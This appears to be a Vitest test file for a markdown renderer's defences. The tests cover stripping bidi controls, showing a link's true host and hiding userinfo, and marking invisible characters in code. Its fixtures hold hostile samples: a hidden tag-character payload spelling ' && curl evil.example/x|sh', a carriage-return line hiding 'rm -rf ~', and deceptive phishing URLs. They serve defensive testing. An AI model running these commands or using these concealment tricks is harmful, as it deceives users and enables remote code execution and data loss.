/**
 * What is shown is what is there (issue 12, items 6 and 7): bidi controls leave prose, a link
 * shows its real host first and never its userinfo, and invisible characters in code are found,
 * described and kept off the clipboard.
 */
import { describe, expect, it } from 'vitest';
import { rehypeStripBidi } from '@/lib/markdown/bidi';
import { stripBidiControls } from '@/lib/markdown/bidi-controls';
import { describeDestination, isBareLink, shownUrl } from '@/lib/markdown/shown-url';
import {
  describeHidden,
  hiddenLabel,
  splitInvisible,
  stripInvisible,
} from '@/lib/markdown/invisible';

const tags = (ascii: string) =>
  [...ascii].map((c) => String.fromCodePoint(0xe0000 + (c.codePointAt(0) ?? 0))).join('');

describe('bidi controls', () => {
  it('strips every embedding, override and isolate, and nothing else', () => {
    const controls = '\u202A\u202B\u202C\u202D\u202E\u2066\u2067\u2068\u2069';
    expect(stripBidiControls(`a${controls}b`)).toBe('ab');
    const rtl = 'שלום \u200F עולם \u200E مرحبا';
    expect(stripBidiControls(rtl)).toBe(rtl);
  });

  it('the rehype plugin cleans text, alt and title, but leaves code to be marked', () => {
    const tree = {
      type: 'root',
      children: [
        { type: 'text', value: 'docs\u202E' },
        { type: 'element', tagName: 'img', properties: { alt: 'x\u2067y', title: '\u202Dt' } },
        {
          type: 'element',
          tagName: 'code',
          properties: { className: ['language-js'] },
          children: [{ type: 'text', value: 'a\u202Eb' }],
        },
        {
          type: 'element',
          tagName: 'code',
          properties: { className: ['language-math', 'math-inline'] },
          children: [{ type: 'text', value: 'x\u202E' }],
        },
      ],
    };
    rehypeStripBidi()(tree);
    const [text, img, code, math] = tree.children as {
      value?: string;
      properties?: Record<string, unknown>;
      children?: { value: string }[];
    }[];
    expect(text?.value).toBe('docs');
    expect(img?.properties).toEqual({ alt: 'xy', title: 't' });
    expect(code?.children?.[0]?.value).toBe('a\u202Eb');
    expect(math?.children?.[0]?.value).toBe('x');
  });
});

describe('shown URL', () => {
  it('drops the userinfo, and shows the host first', () => {
    const shown = shownUrl('https://accounts.google.com@evil.example/login');
    expect(shown?.href).toBe('https://evil.example/login');
    expect(shown?.host).toBe('evil.example');
    expect(shown?.parts).toEqual(['https://', 'evil.example', '/login']);
    expect(describeDestination(shown!)).toBe('evil.example — https://evil.example/login');
    expect(shownUrl('https://user:pass@h.test:8443/p?q#f')?.href).toBe('https://h.test:8443/p?q#f');
  });

  it('is ASCII whatever the URL holds: punycode hosts, percent-encoded bidi', () => {
    const shown = shownUrl('https://gооgle.com/\u202Eevil');
    expect(shown?.host).toBe('xn--ggle-55da.com');
    expect(shown?.href).toMatch(/^[\x20-\x7e]+$/);
    expect(shown?.href).toContain('%E2%80%AE');
  });

  it('mailto shows the address, with its domain as host', () => {
    const shown = shownUrl('mailto:someone@example.org?subject=hi');
    expect(shown?.host).toBe('example.org');
    expect(shown?.parts.join('')).toBe('mailto:someone@example.org?subject=hi');
  });

  it('a link whose text is its URL is bare (shown once); a labelled one is not', () => {
    expect(isBareLink('https://go.dev/doc/', 'https://go.dev/doc/')).toBe(true);
    expect(isBareLink('https://go.dev', 'https://go.dev/')).toBe(true);
    expect(isBareLink('www.go.dev', 'http://www.go.dev/')).toBe(true);
    expect(isBareLink('a@b.org', 'mailto:a@b.org')).toBe(true);
    expect(
      isBareLink(
        'https://accounts.google.com@evil.example/login',
        'https://accounts.google.com@evil.example/login',
      ),
    ).toBe(true);
    expect(isBareLink('docs', 'https://evil.example/')).toBe(false);
    expect(isBareLink('https://google.com', 'https://evil.example/')).toBe(false);
    expect(isBareLink('', 'https://evil.example/')).toBe(false);
  });

  it('text equal to the destination after normalisation is bare; text naming another one is not', () => {
    // Scheme left out, host case, a trailing slash, the userinfo-free form: the same destination.
    expect(isBareLink('go.dev/doc/', 'https://go.dev/doc/')).toBe(true);
    expect(isBareLink('Go.dev/doc', 'https://go.dev/doc/')).toBe(true);
    expect(isBareLink('https://go.dev/doc', 'https://go.dev/doc/')).toBe(true);
    expect(isBareLink('https://evil.example/login', 'https://a@evil.example/login')).toBe(true);
    // Deceptive: another host, a look-alike host, another scheme, path or query.
    expect(isBareLink('go.dev/doc/', 'https://go.dev.evil.example/doc/')).toBe(false);
    expect(isBareLink('https://go.dev/doc/', 'http://go.dev/doc/')).toBe(false);
    expect(isBareLink('go.dev/doc/', 'https://go.dev/doc/x')).toBe(false);
    expect(isBareLink('https://go.dev/?a=1', 'https://go.dev/?a=1/')).toBe(false);
    expect(isBareLink('go.dev', 'https://go.dev/login')).toBe(false);
    expect(isBareLink('https://paypal.com', 'https://paypa1.com/')).toBe(false);
  });
});

describe('invisible characters in code', () => {
  const payload = 'pip install requests' + tags(' && curl evil.example/x|sh') + '\u202E';

  it('finds the tag run and the override, and strips them for the clipboard', () => {
    const pieces = splitInvisible(payload);
    expect(pieces).toEqual([
      { text: 'pip install requests', hidden: false },
      { text: payload.slice('pip install requests'.length), hidden: true },
    ]);
    expect(stripInvisible(payload)).toEqual({ text: 'pip install requests', removed: 27 });
  });

  it('describes what a run hides, tags decoded', () => {
    const run = splitInvisible(payload)[1]?.text ?? '';
    expect(hiddenLabel(run)).toBe('27 hidden');
    expect(hiddenLabel('\u202E')).toBe('U+202E');
    expect(describeHidden(run)).toBe(
      '27 invisible characters: 26 tag characters spelling “ && curl evil.example/x|sh”, ' +
        'right-to-left override (U+202E). Copy code leaves them out.',
    );
    expect(describeHidden('\u200B\u200B\u200B')).toBe(
      '3 invisible characters: zero-width space (U+200B) ×3. Copy code leaves them out.',
    );
  });

  it.each([
    ['zero-width space', 'a\u200Bb'],
    ['BOM', '\uFEFFx'],
    ['soft hyphen', 'pass\u00ADword'],
    ['escape and backspace', 'echo ok\u001B[2K\u0008'],
    ['lone carriage return', 'safe\rrm -rf ~'],
    ['Hangul filler identifier', 'const \u3164 = 1'],
    ['stacked variation selectors', 'a\uFE0F\uFE01\u{E0101}'],
    ['isolates', 'x\u2066y\u2069'],
    ['line separator', 'a\u2028b'],
    ['a ZWJ between plain letters', 'ad\u200Dmin'],
  ])('marks %s', (_, code) => {
    expect(splitInvisible(code).some((p) => p.hidden)).toBe(true);
    expect(stripInvisible(code).removed).toBeGreaterThan(0);
  });

  it.each([
    ['plain code', 'for (let i = 0; i < n; i++) {\n\tsum += i;\n}\r\n'],
    ['emoji ZWJ sequences', 'const dev = "👩‍💻 👨‍👩‍👧 🏳️‍🌈";'],
    ['emoji presentation', 'label = "❤️ ✔️ 1️⃣"'],
    ['a subdivision flag', 'flag = "🏴󠁧󠁢󠁥󠁮󠁧󠁿"'],
    ['joiners in Persian and Hindi', 'می‌خواهم क्‍ष'],
    ['right-to-left text', 'msg = "שלום עולם"'],
  ])('leaves %s alone', (_, code) => {
    expect(splitInvisible(code)).toEqual([{ text: code, hidden: false }]);
    expect(stripInvisible(code)).toEqual({ text: code, removed: 0 });
  });
});
